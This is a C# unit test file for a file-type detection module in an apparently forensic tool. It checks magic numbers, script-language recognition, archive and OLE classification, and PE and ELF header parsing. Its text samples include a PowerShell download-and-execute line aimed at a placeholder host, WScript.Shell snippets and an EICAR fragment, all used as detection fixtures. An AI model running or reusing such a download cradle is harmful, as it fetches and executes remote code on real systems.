using CsCheck;
using Pcapper.Modules.FileTypes;
using Pcapper.Tests.Building;
using Xunit;

namespace Pcapper.Tests.FileTypes;

public sealed class FileSnifferTests
{
    private static readonly byte[] s_installer = [0x84, 0x10, 0x0C, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46];

    [Fact]
    public void More_than_150_types_are_known() => Assert.InRange(MagicTable.All.Select(m => m.Type.Media).Distinct().Count(), 150, 400);

    [Theory]
    [InlineData("89 50 4E 47 0D 0A 1A 0A", "image/png")]
    [InlineData("FF D8 FF E0 00 10", "image/jpeg")]
    [InlineData("52 49 46 46 10 00 00 00 57 45 42 50", "image/webp")]
    [InlineData("52 49 46 46 10 00 00 00 57 41 56 45", "audio/x-wav")]
    [InlineData("00 00 00 18 66 74 79 70 69 73 6F 6D", "video/mp4")]
    [InlineData("00 00 00 18 66 74 79 70 68 65 69 63", "image/heic")]
    [InlineData("00 00 00 18 66 74 79 70 71 74 20 20", "video/quicktime")]
    [InlineData("1A 45 DF A3 84 42 82 84 77 65 62 6D", "video/webm")]
    [InlineData("1A 45 DF A3 84 42 82 84 00 00 00 00", "video/x-matroska")]
    [InlineData("37 7A BC AF 27 1C 00 04", "application/x-7z-compressed")]
    [InlineData("52 61 72 21 1A 07 01 00", "application/x-rar-compressed")]
    [InlineData("52 61 72 21 1A 07 00", "application/x-rar-compressed")]
    [InlineData("4D 53 43 46 00 00 00 00", "application/vnd.ms-cab-compressed")]
    [InlineData("49 54 53 46 03 00 00 00", "application/vnd.ms-htmlhelp")]
    [InlineData("4C 00 00 00 01 14 02 00 00 00 00 00 C0 00 00 00 00 00 00 46", "application/x-ms-shortcut")]
    [InlineData("E4 52 5C 7B 8C D8 A7 4D AE B1 53 78 D0 29 96 D3", "application/onenote")]
    [InlineData("76 68 64 78 66 69 6C 65", "application/x-vhdx")]
    [InlineData("4B 44 4D 56 01 00 00 00", "application/x-vmdk")]
    [InlineData("CA FE BA BE 00 00 00 34", "application/java-vm")]
    [InlineData("CA FE BA BE 00 00 00 02", "application/x-mach-o-executable")]
    [InlineData("CF FA ED FE 07 00 00 01", "application/x-mach-o-executable")]
    [InlineData("00 61 73 6D 01 00 00 00", "application/wasm")]
    [InlineData("D4 C3 B2 A1 02 00 04 00", "application/vnd.tcpdump.pcap")]
    [InlineData("0A 0D 0D 0A 1C 00 00 00 4D 3C 2B 1A", "application/x-pcapng")]
    [InlineData("72 65 67 66 01 00 00 00", "application/x-ms-registry-hive")]
    [InlineData("45 6C 66 46 69 6C 65 00", "application/x-ms-evtx")]
    [InlineData("30 82 03 10 30 82", "application/x-der")]
    [InlineData("4D 5A", "text/plain")]
    [InlineData("00 00 00 00 00 00 00 00", null)]
    public void Magic_numbers_tell_types(string hex, string? media) => Assert.Equal(media, FileSniffer.Media(Hex.Bytes(hex)));

    [Theory]
    [InlineData("<!DOCTYPE html><html>", "text/html")]
    [InlineData("<html><head><HTA:APPLICATION ID=x>", "application/hta")]
    [InlineData("<?xml version=\"1.0\"?><svg xmlns=", "image/svg+xml")]
    [InlineData("<?xml version=\"1.0\"?><scriptlet><script>", "text/scriptlet")]
    [InlineData("<?xml version=\"1.0\"?><a/>", "text/xml")]
    [InlineData("{\"a\": 1}", "application/json")]
    [InlineData("#!/usr/bin/env python3\n", "text/x-python")]
    [InlineData("#!/bin/sh\n", "text/x-shellscript")]
    [InlineData("@echo off\r\ndel x", "text/x-msdos-batch")]
    [InlineData("$c = New-Object Net.WebClient\nIEX ($c.DownloadString('http://x.example/'))", "text/x-powershell")]
    [InlineData("On Error Resume Next\r\nDim a\r\nSet a = CreateObject(\"WScript.Shell\")\r\n", "text/vbscript")]
    [InlineData("var s = new ActiveXObject('WScript.Shell'); WScript.Sleep(1);", "text/x-jscript")]
    [InlineData("One may call CreateObject(x) in a macro.", "text/plain")]
    [InlineData("Use Write-Host to print.", "text/plain")]
    [InlineData("solid advice", "text/plain")]
    [InlineData("{\\rtf1\\ansi", "application/rtf")]
    [InlineData("%PDF-1.7", "application/pdf")]
    [InlineData(@"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "text/x-eicar")]
    public void Kinds_of_text_are_told(string text, string media) => Assert.Equal(media, FileSniffer.Media(Hex.Text(text)));

    [Fact]
    public void Disk_images_are_told_beyond_the_first_sectors()
    {
        byte[] image = new byte[32_768 + 16];
        Hex.Text("CD001").CopyTo(image, 32_769);
        Assert.Equal("application/x-iso9660-image", FileSniffer.Media(image));
    }

    [Theory]
    [InlineData("[Content_Types].xml word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]
    [InlineData("[Content_Types].xml _rels/.rels xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")]
    [InlineData("META-INF/MANIFEST.MF a/B.class", "application/java-archive")]
    [InlineData("AndroidManifest.xml META-INF/MANIFEST.MF", "application/vnd.android.package-archive")]
    [InlineData("readme.txt", "application/zip")]
    public void Archives_are_told_by_what_is_in_them(string names, string media)
        => Assert.Equal(media, FileSniffer.Media(Heads.Zip(0, [.. names.Split(' ').Select(n => (n, "content"))])));

    [Fact]
    public void The_first_entry_of_a_book_is_its_type()
    {
        Assert.Equal("application/epub+zip", FileSniffer.Media(Heads.Zip(0, ("mimetype", "application/epub+zip"))));
        Assert.Equal("application/vnd.oasis.opendocument", FileSniffer.Media(Heads.Zip(0, ("mimetype", "application/vnd.oasis.opendocument.text"))));
    }

    [Fact]
    public void Compound_files_are_told_by_their_streams_and_class()
    {
        Assert.Equal("application/msword", FileSniffer.Media(Heads.Ole(null, "1Table", "WordDocument")));
        Assert.Equal("application/vnd.ms-excel", FileSniffer.Media(Heads.Ole(null, "Workbook")));
        Assert.Equal("application/vnd.ms-powerpoint", FileSniffer.Media(Heads.Ole(null, "PowerPoint Document")));
        Assert.Equal("application/vnd.ms-outlook", FileSniffer.Media(Heads.Ole(null, "__nameid_version1.0")));
        Assert.Equal("application/x-msi", FileSniffer.Media(Heads.Ole(s_installer, "x")));
        Assert.Equal("application/x-ole-storage", FileSniffer.Media(Heads.Ole(null, "x")));
    }

    [Fact]
    public void Headers_of_Windows_programs_are_read()
    {
        PeHead pe = PeHead.Read(Heads.Pe())!;
        Assert.Equal((0x14C, 1_600_000_000u, false, false), (pe.Machine, pe.Compiled, pe.IsLibrary, pe.IsWide));
        Assert.Equal(((ushort)5, (ushort)1), pe.System);
        Assert.Equal((3, true, true, false, true, false), (pe.Subsystem, pe.UsesAslr, pe.UsesDep, pe.IsSigned, pe.HasImports, pe.IsDotNet));
        Assert.Equal([".text"], pe.Sections);
        Assert.Equal((1, 1), pe.Imports);
        Assert.Equal("f9ade0aa18f660a34a4fa23392e21838", pe.ImportHash);   // MD5 of kernel32.exitprocess
        Assert.Equal("UPX0", PeHead.Read(Heads.Pe(section: "UPX0"))!.Packer);
    }

    [Fact]
    public void Headers_of_Unix_programs_are_read()
    {
        ElfHead elf = ElfHead.Read(Heads.Elf())!;
        Assert.Equal(("ARM", (ushort)2, false, (ushort)0), (elf.MachineName, elf.Type, elf.IsDynamic, elf.Sections));
        Assert.Equal("ARM program, 32-bit, little-endian, static, no sections", FileFacts.Of(Heads.Elf(), "application/x-executable"));
    }

    [Fact]
    public void Macros_and_locks_are_told()
    {
        Assert.Equal("macros", FileFacts.Of(Heads.Zip(0, ("[Content_Types].xml", "x"), ("word/vbaProject.bin", "x")), null));
        Assert.Equal("encrypted, holds invoice.exe", FileFacts.Of(Heads.Zip(1, ("invoice.exe", "x")), null));
        Assert.Equal("macros", FileFacts.Of(Heads.Ole(null, "WordDocument", "_VBA_PROJECT"), null));
        Assert.Equal("encrypted", FileFacts.Of(Heads.Ole(null, "EncryptedPackage"), null));
        Assert.Equal("encrypted names and files", FileFacts.Of(Hex.Bytes("52 61 72 21 1A 07 01 00 00 00 00 00 21 04 00 00"), "application/x-rar-compressed"));
        Assert.Equal("encrypted names and files", FileFacts.Of(Hex.Bytes("52 61 72 21 1A 07 00 CE 99 73 80 00 0D 00 00 00 00 00 00 00 00 00 00 00 00 00 00"), "application/x-rar-compressed"));
    }

    [Fact]
    public void Every_prefix_and_every_changed_byte_is_survived()
    {
        byte[][] heads =
        [
            Heads.Pe(), Heads.Elf(), Heads.Zip(0, ("[Content_Types].xml", "x"), ("word/vbaProject.bin", "y")), Heads.Ole(s_installer, "WordDocument", "_VBA_PROJECT"),
            Hex.Bytes("52 61 72 21 1A 07 01 00 00 00 00 00 A1 84 04 00"),
        ];
        foreach (byte[] head in heads)
        {
            string? media = FileSniffer.Media(head);
            for (int length = 0; length < head.Length; length++)
            {
                All(head.AsSpan(0, length), media);
            }

            for (int at = 0; at < head.Length; at++)
            {
                foreach (byte value in (ReadOnlySpan<byte>)[0, 1, 0x7F, 0x80, 0xFF])
                {
                    byte[] changed = [.. head];
                    changed[at] = value;
                    All(changed, media);
                }
            }
        }
    }

    [Fact]
    public void Any_bytes_are_survived()
        => Gen.Select(Gen.Int[0, 3].Select(i => i switch { 0 => Heads.Pe(), 1 => Heads.Elf(), 2 => Heads.Zip(8, ("mimetype", "x")), _ => Heads.Ole(null, "x") }), Gen.Int[0, 200], Gen.Byte.Array[0, 600]).Always(
            (head, at, bytes) => All([.. head.AsSpan(0, Math.Min(at, head.Length)), .. bytes], FileSniffer.Media(head)), iterations: 2000);

    private static void All(ReadOnlySpan<byte> content, string? media)
    {
        FileSniffer.Sniff(content);
        FileFacts.Of(content, media);
        PeHead.Read(content);
        ElfHead.Read(content);
        ZipHead.Read(content);
        OleHead.Read(content);
    }
}
